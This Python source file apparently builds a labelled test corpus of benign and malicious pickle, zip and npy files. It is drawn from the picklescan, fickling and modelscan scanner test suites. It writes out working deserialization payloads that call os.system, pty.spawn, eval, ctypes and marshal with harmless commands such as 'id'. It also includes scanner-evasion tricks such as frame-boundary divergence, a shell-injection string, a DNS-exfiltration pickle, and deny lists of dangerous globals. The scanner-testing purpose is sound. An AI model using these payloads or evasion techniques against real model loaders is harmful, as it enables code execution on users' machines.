    "data2/type-confusion-exploit.pkl": "Dangerous os.system, Suspicious 42.os (int in the memo)",
    "data2/io_FileIO.pkl": "Dangerous _io.FileIO",
    "data2/urllib_request_urlopen.pkl": "Dangerous urllib.request.urlopen",
    "data2/logging_FileHandler.pkl": "Dangerous logging.FileHandler",
    "data2/types_CodeType.pkl": "Dangerous types.CodeType",
    "data2/cloudpickle_codeinjection.pkl": "Dangerous cloudpickle.cloudpickle._function_setstate/_builtin_type/_make_function/_make_cell/_make_empty_cell/subimport",
    "data2/GHSA-jgw4-cr84-mqxg.bin": "Dangerous asyncio.unix_events._UnixSubprocessTransport._start (.bin extension)",
}
# GHSA-* reproducers: picklescan's assert_scan expects the one global the
# advisory is about as Dangerous (plus the listed extras).
PS_GHSA = {
    "4r9r-ch6f-vxmx": "torch.utils.bottleneck.__main__.run_cprofile",
    "86cj-95qr-2p4f": "torch._dynamo.guards.GuardBuilder.get",
    "f4x7-rfwp-v3xw": "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "f745-w6jp-hpxx": "torch.utils.collect_env.run",
    "jhph-76pp-mggw": "torch.utils.collect_env.run (Suspicious run_and_read_all)",
    "h3qp-7fh3-f8h4": "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "vr7h-p6mm-wpmh": "torch.jit.unsupported_tensor_ops.execWrapper",
    "vv6j-3g6g-2pvj": "torch.utils._config_module.ConfigModule.load_config",
    "5qwp-399c-mjwf": "trace.Trace.run",
    "g344-hcph-8vgg": "trace.Trace.runctx",
    "x696-vm39-cp64": "profile.Profile.run",
    "6vqj-c2q5-j97w": "profile.Profile.runctx",
    "f54q-57x4-jg88": "lib2to3.pgen2.grammar.Grammar.loads",
    "3vg9-h568-4w9m": "idlelib.debugobj.ObjectTreeItem.SetText",
    "6w4w-5w54-rjvr": "idlelib.autocomplete.AutoComplete.get_entity",
    "7cq8-mj8x-j263": "idlelib.autocomplete.AutoComplete.fetch_completions",
    "cj3c-v495-4xqh": "code.InteractiveInterpreter.runcode",
    "8r4j-24qv-fmq9": "idlelib.calltip.Calltip.fetch_tip",
    "9xph-j2h6-g47v": "idlelib.calltip.get_entity",
    "4whj-rm5r-c2v8": "torch.utils.bottleneck.__main__.run_autograd_prof",
    "xp4f-hrf8-rxw7": "ensurepip._run_pip",
    "p9w7-82w4-7q8m": "lib2to3.pgen2.pgen.ParserGenerator.make_label",
    "m869-42cg-3xwr": "idlelib.run.Executive.runcode",
    "j343-8v2j-ff7w": "idlelib.pyshell.ModifiedInterpreter.runcommand",
    "3gf5-cxq9-w223": "idlelib.pyshell.ModifiedInterpreter.runcode",
    "fqq6-7vqf-w3fg": "doctest.debug_script",
    "9w88-8rmg-7g2p": "cProfile.runctx",
    "49gj-c84q-6qm9": "cProfile.run",
    "7wx9-6375-f5wh": "profile.run",
    "q77w-mwjj-7mqx": "asyncio.unix_events._UnixSubprocessTransport._start",
    "m273-6v24-x4m4": "distutils.file_util.write_file",
    "4675-36f9-wf6r": "ctypes.CDLL",
    "84r2-jw7c-4r5q": "pydoc.locate, operator.methodcaller",
    "vqmv-47xg-9wpr": "pty.spawn",
    "r8g5-cgf2-4m4m": "numpy.f2py.crackfortran.getlincoef",
    "955r-x9j8-7rhh": "_operator.methodcaller (Suspicious builtins.__import__)",
    "46h3-79wf-xr6c": "_operator.attrgetter (Suspicious builtins.__import__)",
    "vvpj-8cmc-gx39": "pkgutil.resolve_name",
    "g38g-8gr9-h9xp-uuid": "uuid._get_command_stdout",
    "g38g-8gr9-h9xp-osx-support": "_osx_support._read_output",
    "g38g-8gr9-h9xp-aix-support": "_aix_support._read_cmd_output",
    "g38g-8gr9-h9xp-imaplib": "imaplib.IMAP4_stream",
    "g38g-8gr9-h9xp-pyrepl-pager": "_pyrepl.pager.pipe_pager",
    "g38g-8gr9-h9xp-test": "test.support.script_helper.assert_python_ok",
}
# The trick a file plays, where there is one beyond importing a global.
PS_TRICK = {
    "data/malicious6.pkl": "two pickles in one file; the second",
    "data/malicious-invalid-bytes.pkl": "junk bytes after STOP; names pushed by UNICODE, PUT/GET into STACK_GLOBAL;",
    "data/malicious11.pkl": "no PROTO; names pushed by UNICODE and replayed by PUT/GET into STACK_GLOBAL;",
    "data/malicious13a.pkl": "a nested pickle built by _codecs.encode, given to pickle.loads;",
    "data/malicious13b.pkl": "a nested pickle given to _pickle.loads;",
    "data/broken_model.pkl": "truncated after the GLOBAL;",
    "data/sys_module_override_sploit.pkl": "BUILD on the torch._utils module rewrites its attributes, later STACK_GLOBAL "
                                           "names come from the memo;",
    "data2/keyerror-exploit.pkl": "a STACK_GLOBAL operand is a memo index never written (KeyError for a scanner);",
    "data2/type-confusion-exploit.pkl": "an int stored in the memo where a module name is expected;",
    "data2/malicious23.pkl": "STACK_GLOBAL over STRING (protocol 0) operands;",
    "data/malicious10.pkl": "INST opcode;",
    "data2/GHSA-jgw4-cr84-mqxg.bin": "a .bin file that is a plain pickle;",
}
PS_BENIGN = {"data/benign0_v0.pkl", "data/benign0_v3.pkl", "data/benign0_v4.pkl", "data/not_a_pickle.bin"}


def picklescan_entries():
    for up, listing in PICKLESCAN_LISTINGS.items():
        data = asm(listing)
        name = os.path.basename(up)
        says = PS_SAYS.get(up)
        if says is None and name.startswith("GHSA-"):
            says = "Dangerous " + PS_GHSA[name[5:].rsplit(".", 1)[0]]
        g = globals_of(data)
        does = "imports " + ", ".join(dict.fromkeys(g)) if g else "imports nothing"
        if up in PS_TRICK:
            does = PS_TRICK[up] + " " + does
        if up == "data/pytorch_magic_bypass.pt":
            does = "legacy torch.save stream whose magic-number pickle is eval(...) and whose object pickle calls posix.system"
        if up == "data/not_a_pickle.bin":
            does = "GLOBAL opcode with a name that is not UTF-8: not a pickle at all"
        yield dict(file="picklescan/" + up, corpus="picklescan", upstream="tests/" + up,
                   expected="benign" if up in PS_BENIGN else "malicious", does=does, upstream_says=says,
                   identical_to_upstream=True, data=data)

    eval_p4 = asm(PICKLESCAN_LISTINGS["data/malicious1_v4.pkl"])  # builtins.eval("print('456')"), protocol 4
    zips = [
        ("data/malicious1.zip", zip_bytes([("data.pkl", eval_p4)]), "zip holding data.pkl"),
        ("data/malicious1_0x1.zip", zip_bytes([("model/config.pkl", eval_p4)], flags=0x1),
         "zip entry flagged encrypted (bit 0) although stored in the clear"),
        ("data/malicious1_0x20.zip", zip_bytes([("model/config.pkl", eval_p4)], flags=0x20),
         "zip entry with general-purpose bit 0x20 (compressed patched data) set"),
        ("data/malicious1_0x40.zip", zip_bytes([("model/config.pkl", eval_p4)], flags=0x40),
         "zip entry with general-purpose bit 0x40 (strong encryption) set"),
        ("data/malicious1_central_directory.zip",
         zip_bytes([("data.pkl", eval_p4)], local_names=["datap.kl"]),
         "local header names datap.kl, central directory data.pkl"),
        ("data/malicious1_wrong_ext.zip", zip_bytes([("data.txt", eval_p4)]), "pickle in a zip entry named data.txt"),
        ("data2/malicious1_crc.zip", zip_bytes([("data.pkl", eval_p4)], corrupt=(b"print('456')", b"print('123')")),
         "zip entry whose stored bytes no longer match its CRC"),
    ]
    for up, data, does in zips:
        yield dict(file="picklescan/" + up, corpus="picklescan", upstream="tests/" + up, expected="malicious",
                   does=does + "; the pickle calls builtins.eval", upstream_says="Dangerous builtins.eval",
                   identical_to_upstream=False, data=data)
    yield dict(file="picklescan/data/benign_password_protected.zip", corpus="picklescan",
               upstream="tests/data/benign_password_protected.zip", expected="benign",
               does="ZipCrypto-encrypted test.txt (15 bytes of text)", upstream_says="safe",
               identical_to_upstream=False,
               data=zip_bytes([("test.txt", b"hello, scanner\n")], crypt_pwd=b"password"))
    sd = small_state_dict()
    for up, zf in (("data/pytorch_model.bin", False), ("data/new_pytorch_model.bin", True)):
        yield dict(file="picklescan/" + up, corpus="picklescan", upstream="tests/" + up, expected="benign",
                   does="torch.save of an OrderedDict of float tensors (%s format)" % ("zip" if zf else "legacy"),
                   upstream_says="Innocuous torch.FloatStorage, collections.OrderedDict, torch._utils._rebuild_tensor_v2",
                   identical_to_upstream=False, data=torch_save(sd, zip_format=zf))
    yield dict(file="picklescan/data/bad_pytorch.pt", corpus="picklescan", upstream="tests/data/bad_pytorch.pt",
               expected="benign", does="PNG signature in a .pt file", upstream_says="scanned, no globals, no error",
               identical_to_upstream=True, data=b"\x89PNG\r\n\x1a\n")

    import numpy as np

    obj = np.empty((2, 2), dtype=object)
    obj[:] = [(1, 2), (3, 4)]
    ints = np.array([[1, 2], [3, 4]])
    dns = npy_header("|O", (1,)) + asm(DNS_EXFILTRATION_PICKLE)
    numpy_files = [
        ("data2/object_array.npy", "benign", np_save(obj), "object array of ints: a pickle of numpy globals",
         "Innocuous numpy.core.multiarray._reconstruct, numpy.ndarray, numpy.dtype"),
        ("data2/int_array.npy", "benign", np_save(ints), "int array: no pickle", "no globals"),
        ("data2/object_arrays.npz", "benign",
         np_savez(False, a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4, 5], dtype=object)),
         "npz (zip) of two object arrays", "Innocuous numpy globals x2"),
        ("data2/int_arrays.npz", "benign", np_savez(False, a=np.array([0, 1, 2]), b=np.array([3, 4, 5])),
         "npz (zip) of two int arrays", "no globals"),
        ("data2/object_arrays_compressed.npz", "benign",
         np_savez(True, a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4, 5], dtype=object)),
         "deflated npz of two object arrays", "Innocuous numpy globals x2"),
        ("data2/int_arrays_compressed.npz", "benign", np_savez(True, a=np.array([0, 1, 2]), b=np.array([3, 4, 5])),
         "deflated npz of two int arrays", "no globals"),
        ("data2/dns_exfiltration.npy", "malicious", dns,
         "object-array .npy whose element reduces to ssl.get_server_certificate (DNS exfiltration)",
         "Innocuous numpy globals, Dangerous ssl.get_server_certificate"),
    ]
    for up, exp, data, does, says in numpy_files:
        yield dict(file="picklescan/" + up, corpus="picklescan", upstream="tests/" + up, expected=exp, does=does,
                   upstream_says=says, identical_to_upstream=False, data=data)


PS_SKIPPED = [
    dict(file="picklescan/data/malicious1.7z", upstream="tests/data/malicious1.7z",
         reason="7z needs py7zr, not installed here; torch.load cannot read 7z either, and ckpt scan does not open 7z"),
]


# ---- fickling -----------------------------------------------------------------
# test/test_bypasses.py builds each pickle from an opcode list; the same
# lists, in this script's listing format. (name, advisory, expected, does,
# listing); every malicious one is asserted > LIKELY_SAFE upstream.


FICKLING = [
    ("pty_spawn_ghsa.pkl", "GHSA-r7v6-mfhq-g3m2", "malicious", "pty.spawn('id') through STACK_GLOBAL, then BUILD", """
PROTO 4
FRAME 26
SHORT_BINUNICODE 'pty'
MEMOIZE
SHORT_BINUNICODE 'spawn'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'gottem'
MEMOIZE
BUILD
STOP
"""),
    ("pty_spawn_obj.pkl", "fickling PR 108", "malicious", "pty.spawn('id') through GLOBAL + OBJ", """
MARK
GLOBAL 'pty spawn'
STRING 'id'
OBJ
STOP
"""),
    ("marshal_types.pkl", "GHSA-565g-hwwr-4pp3", "malicious",
     "marshal.loads of a code object, wrapped by types.FunctionType and called", None),
    ("runpy_run_path.pkl", "GHSA-wfq2-52f7-7qvj", "malicious", "runpy.run_path('/tmp/malicious.py')", """
PROTO 5
FRAME 46
SHORT_BINUNICODE 'runpy'
MEMOIZE
SHORT_BINUNICODE 'run_path'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE '/tmp/malicious.py'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("cprofile_run.pkl", "GHSA-p523-jq9w-64x9", "malicious", "cProfile.run(code)", """
PROTO 5
FRAME 58
SHORT_BINUNICODE 'cProfile'
MEMOIZE
SHORT_BINUNICODE 'run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE "print('CPROFILE_RCE_CONFIRMED')"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("ctypes_cdll.pkl", "GHSA-q5qq-mvfm-j35x", "malicious", "getattr(ctypes.CDLL('libc.dylib'), 'system')(b'id')", """
PROTO 5
SHORT_BINUNICODE 'builtins'
MEMOIZE
SHORT_BINUNICODE 'getattr'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'ctypes'
MEMOIZE
SHORT_BINUNICODE 'CDLL'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'libc.dylib'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'system'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINBYTES b'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("pydoc_locate.pkl", "GHSA-5hvc-6wx8-mvv4", "malicious", "pydoc.locate('os.system') resolves a name at load time", """
PROTO 5
SHORT_BINUNICODE 'pydoc'
MEMOIZE
SHORT_BINUNICODE 'locate'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'os.system'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("importlib_import_module.pkl", "GHSA-q5qq-mvfm-j35x", "malicious",
     "getattr(importlib.import_module('os'), 'system')('id')", """
PROTO 5
SHORT_BINUNICODE 'builtins'
MEMOIZE
SHORT_BINUNICODE 'getattr'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'importlib'
MEMOIZE
SHORT_BINUNICODE 'import_module'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'os'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'system'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("code_interactiveinterpreter.pkl", "GHSA-q5qq-mvfm-j35x", "malicious",
     "getattr(code.InteractiveInterpreter(), 'runsource')(code)", """
PROTO 5
SHORT_BINUNICODE 'builtins'
MEMOIZE
SHORT_BINUNICODE 'getattr'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'code'
MEMOIZE
SHORT_BINUNICODE 'InteractiveInterpreter'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_TUPLE
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'runsource'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'import os; os.system("id")'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("multiprocessing_spawnv_passfds.pkl", "GHSA-q5qq-mvfm-j35x", "malicious",
     "multiprocessing.util.spawnv_passfds(b'/bin/sh', [...], ())", """
PROTO 5
FRAME 74
SHORT_BINUNICODE 'multiprocessing.util'
MEMOIZE
SHORT_BINUNICODE 'spawnv_passfds'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINBYTES b'/bin/sh'
MEMOIZE
EMPTY_LIST
MEMOIZE
MARK
BINGET 3
SHORT_BINBYTES b'-c'
MEMOIZE
SHORT_BINBYTES b'id'
MEMOIZE
APPENDS
EMPTY_TUPLE
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("builtins_import_getattr.pkl", "GHSA-h4rm-mm56-xf63", "malicious",
     "builtins.__import__('os'), getattr(..., 'system')('whoami') through PUT/GET", """
GLOBAL 'builtins __import__'
STRING 'os'
TUPLE1
REDUCE
PUT 0
POP
GLOBAL 'builtins getattr'
GET 0
STRING 'system'
TUPLE2
REDUCE
PUT 1
POP
GET 1
STRING 'whoami'
TUPLE1
REDUCE
STOP
"""),
    ("safe_builtins_len.pkl", "test_safe_builtins_not_flagged", "benign", "builtins.len([])", """
GLOBAL 'builtins len'
EMPTY_LIST
TUPLE1
REDUCE
STOP
"""),
    ("safe_builtins_dict.pkl", "test_safe_builtin_dict_not_flagged", "benign", "builtins.dict()", """
GLOBAL 'builtins dict'
EMPTY_TUPLE
REDUCE
STOP
"""),
    ("builtins_getattr.pkl", "test_unsafe_builtins_still_flagged", "malicious", "builtins.getattr('os', 'system')", """
GLOBAL 'builtins getattr'
STRING 'os'
STRING 'system'
TUPLE2
REDUCE
STOP
"""),
    ("builtins_eval.pkl", "test_unsafe_builtin_eval_still_flagged", "malicious", "builtins.eval(code)", """
GLOBAL 'builtins eval'
STRING "print('hello')"
TUPLE1
REDUCE
STOP
"""),
    ("operator_methodcaller.pkl", "picklescan GHSA-955r-x9j8-7rhh", "malicious",
     "_operator.methodcaller('system', cmd)(__import__('os'))", """
GLOBAL 'builtins __import__'
MARK
UNICODE 'os'
TUPLE
REDUCE
PUT 0
POP
GLOBAL '_operator methodcaller'
MARK
UNICODE 'system'
UNICODE 'echo "pwned by _operator.methodcaller"'
TUPLE
REDUCE
MARK
GET 0
TUPLE
REDUCE
STOP
"""),
    ("distutils_write_file.pkl", "picklescan GHSA-m273-6v24-x4m4", "malicious",
     "distutils.file_util.write_file(path, [content])", """
PROTO 4
SHORT_BINUNICODE 'distutils.file_util'
SHORT_BINUNICODE 'write_file'
STACK_GLOBAL
SHORT_BINUNICODE '/tmp/malicious.txt'
MARK
SHORT_BINUNICODE 'malicious content'
LIST
TUPLE2
REDUCE
STOP
"""),
    ("io_fileio.pkl", "test_io_fileio", "malicious", "_io.FileIO('/etc/passwd')", """
PROTO 4
SHORT_BINUNICODE '_io'
SHORT_BINUNICODE 'FileIO'
STACK_GLOBAL
SHORT_BINUNICODE '/etc/passwd'
TUPLE1
REDUCE
STOP
"""),
    ("numpy_f2py_getlincoef.pkl", "picklescan GHSA-r8g5-cgf2-4m4m", "malicious",
     "numpy.f2py.crackfortran.getlincoef(expr, {}) evaluates expr", """
PROTO 4
SHORT_BINUNICODE 'numpy.f2py.crackfortran'
SHORT_BINUNICODE 'getlincoef'
STACK_GLOBAL
SHORT_BINUNICODE "__import__('os').system('id')"
EMPTY_DICT
TUPLE2
REDUCE
STOP
"""),
    ("asyncio_subprocess.pkl", "picklescan GHSA-f7qq-56ww-84cr", "malicious",
     "asyncio.unix_events._UnixSubprocessTransport._start(...) spawns a process", """
PROTO 4
FRAME 81
SHORT_BINUNICODE 'asyncio.unix_events'
MEMOIZE
SHORT_BINUNICODE '_UnixSubprocessTransport._start'
MEMOIZE
STACK_GLOBAL
MEMOIZE
MARK
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE 'whoami'
MEMOIZE
NEWTRUE
NONE
NONE
NONE
BININT1 0
TUPLE
MEMOIZE
REDUCE
MEMOIZE
STOP
"""),
    ("obj_pop_smtplib.pkl", "GHSA-mxhj-88fx-4pcv", "malicious",
     "smtplib.SMTP('127.0.0.1') called by OBJ and discarded by POP", """
PROTO 4
MARK
SHORT_BINUNICODE 'smtplib'
SHORT_BINUNICODE 'SMTP'
STACK_GLOBAL
SHORT_BINUNICODE '127.0.0.1'
OBJ
POP
NONE
STOP
"""),
    ("uuid_get_command_stdout.pkl", "GHSA-5hwf-rc88-82xm", "malicious", "uuid._get_command_stdout('echo', ...)", """
PROTO 4
SHORT_BINUNICODE 'uuid'
SHORT_BINUNICODE '_get_command_stdout'
STACK_GLOBAL
SHORT_BINUNICODE 'echo'
SHORT_BINUNICODE 'PROOF_OF_CONCEPT'
TUPLE2
REDUCE
STOP
"""),
    ("aix_support_read_cmd_output.pkl", "GHSA-5hwf-rc88-82xm", "malicious", "_aix_support._read_cmd_output(cmd)", """
PROTO 4
SHORT_BINUNICODE '_aix_support'
SHORT_BINUNICODE '_read_cmd_output'
STACK_GLOBAL
SHORT_BINUNICODE 'echo PROOF_OF_CONCEPT'
TUPLE1
REDUCE
STOP
"""),
    ("osx_support_find_build_tool.pkl", "GHSA-5hwf-rc88-82xm", "malicious",
     "_osx_support._find_build_tool(injected shell)", """
PROTO 4
SHORT_BINUNICODE '_osx_support'
SHORT_BINUNICODE '_find_build_tool'
STACK_GLOBAL
SHORT_BINUNICODE 'x; echo INJECTED #'
TUPLE1
REDUCE
STOP
"""),
    ("dotted_pathlib_os_system.pkl", "GHSA-5j3x-jp52-966f", "malicious",
     "STACK_GLOBAL 'pathlib' 'os.system': a dotted name walks from an innocent module to os.system", """
PROTO 4
SHORT_BINUNICODE 'pathlib'
SHORT_BINUNICODE 'os.system'
STACK_GLOBAL
EMPTY_TUPLE
REDUCE
STOP
"""),
    ("ast_parse.pkl", "GHSA-cffv-grgg-g429", "benign",
     "imports ast.parse and calls nothing: harmless, but on no ML allowlist (fickling's MLAllowlist flags it)", """
PROTO 4
SHORT_BINUNICODE 'ast'
SHORT_BINUNICODE 'parse'
STACK_GLOBAL
STOP
"""),
    ("private_codecs_encode.pkl", "test_private_stdlib_allowlist", "benign", "imports _codecs.encode (numpy uses it)", """
PROTO 4
SHORT_BINUNICODE '_codecs'
SHORT_BINUNICODE 'encode'
STACK_GLOBAL
STOP
"""),
    ("private_future_annotations.pkl", "test_private_stdlib_allowlist", "benign", "imports __future__.annotations", """
PROTO 4
SHORT_BINUNICODE '__future__'
SHORT_BINUNICODE 'annotations'
STACK_GLOBAL
STOP
"""),
]
for _m in ("_interpreters", "_xxsubinterpreters"):
    FICKLING.append(("%s_create.pkl" % _m, "GHSA-6ggj-6f2q-f7mx", "malicious",
                     "%s.create(): a subinterpreter that can run code" % _m, """
PROTO 4
SHORT_BINUNICODE '%s'
SHORT_BINUNICODE 'create'
STACK_GLOBAL
EMPTY_TUPLE
REDUCE
STOP
""" % _m))
for _mod, _cls, _port in (("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21),
                          ("poplib", "POP3", 110), ("telnetlib", "Telnet", 23), ("nntplib", "NNTP", 119)):
    FICKLING.append(("ssrf_%s.pkl" % _mod, "test_network_protocol_ssrf", "malicious",
                     "%s.%s('127.0.0.1', %d): opens a connection" % (_mod, _cls, _port), """
PROTO 4
GLOBAL '%s %s'
SHORT_BINUNICODE '127.0.0.1'
BININT2 %d
TUPLE2
REDUCE
EMPTY_DICT
BUILD
STOP
""" % (_mod, _cls, _port)))
# TestUnsafeModuleCoverage: every entry of fickling's UnsafeImportsML lists
# (fickling/analysis.py), imported and called with no arguments.
FICKLING_ML_MODULES = ["torch.hub", "torch._dynamo", "torch._inductor", "torch.jit", "torch.compile",
                       "numpy.f2py", "numpy.distutils"]
FICKLING_ML_IMPORTS = [("torch", "load"), ("torch", "compile"), ("torch.storage", "_load_from_bytes"),
                       ("torch.utils._config_module", "ConfigModule"),
                       ("torch.distributed.elastic.rendezvous.api", "basichandlers"),
                       ("numpy.testing._private.utils", "runstring"), ("_io", "FileIO"), ("_io", "open"),
                       ("io", "FileIO"), ("io", "open")]
for _mod, _fn in [(m, "dangerous") for m in FICKLING_ML_MODULES] + FICKLING_ML_IMPORTS:
    FICKLING.append(("ml_%s.%s.pkl" % (_mod, _fn), "TestUnsafeModuleCoverage", "malicious",
                     "%s.%s() (fickling's UnsafeImportsML list)" % (_mod, _fn), """
PROTO 4
GLOBAL '%s %s'
EMPTY_TUPLE
REDUCE
STOP
""" % (_mod, _fn)))


def fickling_marshal_types():
    """GHSA-565g-hwwr-4pp3: marshal.loads(bytes of a code object) then
    types.FunctionType(code, {})(). The code object is compiled here
    (compile() does not run it) and only its marshalled bytes are kept."""
    import marshal

    code = compile('import os\nos.system("id")', "<string>", "exec")
    return asm("""
PROTO 4
FRAME 0
SHORT_BINUNICODE 'marshal'
SHORT_BINUNICODE 'loads'
STACK_GLOBAL
MEMOIZE
BINGET 0
SHORT_BINBYTES %r
TUPLE1
REDUCE
MEMOIZE
SHORT_BINUNICODE 'types'
SHORT_BINUNICODE 'FunctionType'
STACK_GLOBAL
MEMOIZE
BINGET 2
BINGET 1
EMPTY_DICT
TUPLE2
REDUCE
MEMOIZE
BINGET 3
EMPTY_TUPLE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'gottem'
BUILD
STOP
""" % marshal.dumps(code))


def fickling_frame_divergence():
    """test_frame_boundary_divergence (cpython issue 154848): a FRAME that
    claims 2 bytes holds the start of a BINBYTES that claims 0x107; a
    buffered pickle.load(file) reads past the frame and runs the GLOBAL
    os.system + REDUCE that a linear parse sees as bytes."""
    hidden = b"cos\nsystem\n" + b"Vecho pwned\n" + b"\x85R"
    return (b"\x80\x05" + b"N" + b"V" + b"a" * (8192 * 16 - 17) + b"\n" + b"0" + b"(" +
            b"\x95" + struct.pack("<Q", 2) + b"B" + b"\x07\x01\x00\x00" + b"\x00\x00" +
            (hidden + b"(").ljust(256 + 5, b"N") + b"1" + b".")


def fickling_entries():
    for name, adv, exp, does, listing in FICKLING:
        data = fickling_marshal_types() if listing is None else asm(listing)
        says = ("flagged > LIKELY_SAFE" if exp == "malicious" else
                "LIKELY_SAFE, no UnsafeImports" if "safe_builtins" in name or "private_" in name else
                "LIKELY_SAFE by default analysis; flagged only by the MLAllowlist analysis")
        yield dict(file="fickling/" + name, corpus="fickling", upstream="test/test_bypasses.py (%s)" % adv,
                   expected=exp, does=does, upstream_says=says, identical_to_upstream=True, data=data)
    yield dict(file="fickling/frame_boundary_divergence.pkl", corpus="fickling",
               upstream="test/test_bypasses.py (test_frame_boundary_divergence)", expected="malicious",
               does=fickling_frame_divergence.__doc__.split(":", 1)[1].strip().replace("\n   ", ""),
               upstream_says="no GLOBAL in the parsed opcodes, flagged > LIKELY_SAFE for the frame violation",
               identical_to_upstream=True, data=fickling_frame_divergence())
    yield dict(file="fickling/frame_straddle_global.pkl", corpus="fickling",
               upstream="test/test_bypasses.py (test_frame_boundary_straddle_variants, 'GLOBAL attr')",
               expected="malicious", does="GLOBAL os system straddling the end of a 7-byte FRAME",
               upstream_says="flagged > LIKELY_SAFE", identical_to_upstream=True,
               data=b"\x80\x05\x95" + struct.pack("<Q", 7) + b"cos\nsystem\n" + b".")
    for label, obj in (("small_list", [1, 2, 3, 4]), ("large_unframed_bytes", b"x" * 100000),
                       ("interleaved_frames", [1, b"y" * 100000, 2]),
                       ("nested_containers", {"a": [1, 2, {"b": (3, 4)}], "c": [5, 6]})):
        for proto in (2, 5) if label in ("small_list", "nested_containers") else (5,):
            yield dict(file="fickling/wellformed_%s_p%d.pkl" % (label, proto), corpus="fickling",
                       upstream="test/test_bypasses.py (test_well_formed_frames_are_not_flagged)",
                       expected="benign", does="plain data pickled at protocol %d" % proto,
                       upstream_says="LIKELY_SAFE, no frame violation", identical_to_upstream=True,
                       data=dumps(obj, proto))


FK_SKIPPED = [
    dict(file="fickling: test_private_stdlib_allowlist '__future__' '_ssl.RAND_bytes'",
         upstream="test/test_bypasses.py",
         reason="flagged upstream by policy (a dotted name under an allowlisted module); __future__ has no _ssl, "
                "so the name does not resolve in CPython: neither a payload nor data"),
    dict(file="fickling: test_frame_boundary_straddle_variants other than 'GLOBAL attr'",
         upstream="test/test_bypasses.py",
         reason="malformed frames around strings/ints with no import: nothing to call, so not a payload; "
                "'GLOBAL module' names macos.system, which does not exist"),
]


# ---- modelscan ----------------------------------------------------------------
# tests/test_modelscan.py fixtures (file_path, pytorch_file_path,
# numpy_file_path, zip_file_path) and notebooks/pytorch_sentiment_analysis
# (torch.save with an injecting pickle_module), rebuilt from their
# description. Upstream expectations are from the same tests.


def modelscan_entries():
    import bdb
    import http.client
    import socket
    import subprocess

    import numpy as np

    eval1 = Reduce(eval, ("print('456')",))
    system2 = Reduce(os.system, ("ls -la",))
    req_get = stand_in("requests.api", "get")
    aio = stand_in("aiohttp.client", "ClientSession")
    out = []

    def add(name, exp, does, says, data, upstream="tests/test_modelscan.py"):
        out.append(dict(file="modelscan/" + name, corpus="modelscan", upstream=upstream, expected=exp, does=does,
                        upstream_says=says, identical_to_upstream=False, data=data))

    for v in (0, 3, 4):
        add("benign0_v%d.pkl" % v, "benign", "['a', 'b', 'c'] at protocol %d" % v, "no issues", dumps(["a", "b", "c"], v))
        add("malicious1_v%d.pkl" % v, "malicious", "eval(\"print('456')\") at protocol %d" % v,
            "CRITICAL %s.eval" % ("__builtin__" if v == 0 else "builtins"), dumps(eval1, v))
        add("malicious2_v%d.pkl" % v, "malicious", "os.system('ls -la') at protocol %d" % v, "CRITICAL posix.system",
            dumps(system2, v))
    add("malicious0.pkl", "malicious", "Sour Pickles (BH US 2011) globals/compile/eval/getattr/apply chain",
        "CRITICAL __builtin__.eval/compile/getattr/apply, HIGH/MEDIUM globals/dict",
        asm(PICKLESCAN_LISTINGS["data/malicious0.pkl"]))  # the same bytes as picklescan's
    add("malicious3.pkl", "malicious", "http.client.HTTPSConnection('github.com'), protocol 0",
        "CRITICAL httplib.HTTPSConnection", dumps(Reduce(http.client.HTTPSConnection, ("github.com",)), 0))
    add("malicious4.pickle", "malicious", "requests.api.get('https://github.com')", "CRITICAL requests.api.get",
        dumps(Reduce(req_get, ("https://github.com",)), 4))
    add("malicious5.pickle", "malicious", "aiohttp.client.ClientSession()", "CRITICAL aiohttp.client.ClientSession",
        dumps(Reduce(aio, ()), 4))
    add("malicious6.pkl", "malicious", "a benign pickle followed by a second pickle calling requests.api.get",
        "CRITICAL requests.api.get", dumps(["a", "b", "c"], 4) + dumps(Reduce(req_get, ("https://github.com",)), 4))
    add("malicious7.pkl", "malicious", "socket.create_connection(('github.com', 80))", "CRITICAL socket.create_connection",
        dumps(Reduce(socket.create_connection, (("github.com", 80),)), 4))
